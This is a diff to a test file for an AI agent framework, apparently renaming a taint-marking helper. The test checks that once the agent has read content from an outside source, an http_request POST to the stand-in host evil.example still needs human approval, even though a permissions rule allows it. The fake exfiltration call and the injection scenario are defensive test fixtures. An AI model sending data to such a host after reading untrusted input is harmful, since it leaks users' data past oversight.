@@ -20,7 +20,7 @@ from dataagent_core.errors import (
 )
 from dataagent_core.events import HITLRequestEvent
 from dataagent_core.hitl import ActionRequest, Decision
-from dataagent_core.permissions.taint import external_metadata
+from dataagent_core.permissions.taint import make_external_metadata
 from dataagent_core.session import Intent, Outcome
 from dataagent_core.session.stores.bundle import Stores
 from dataagent_core.session.stores.memory import MemoryEventLog
@@ -248,7 +248,7 @@ async def test_after_a_strangers_words_sending_out_is_asked_even_if_a_rule_allow
     (home / "permissions.toml").write_text(
         '[[rules]]\ntool = "http_request"\nresource = "**"\naction = "allow"\n'
     )
-    marked = stranger.model_copy(update={"metadata": external_metadata()})
+    marked = stranger.model_copy(update={"metadata": make_external_metadata()})
     send = {"name": "http_request", "args": {"url": "http://evil.example/", "method": "POST"}}
     model = scripted(
         {"tool_calls": [{"name": "stranger", "args": {}}]}, {"tool_calls": [send]}, {"text": "ok"}
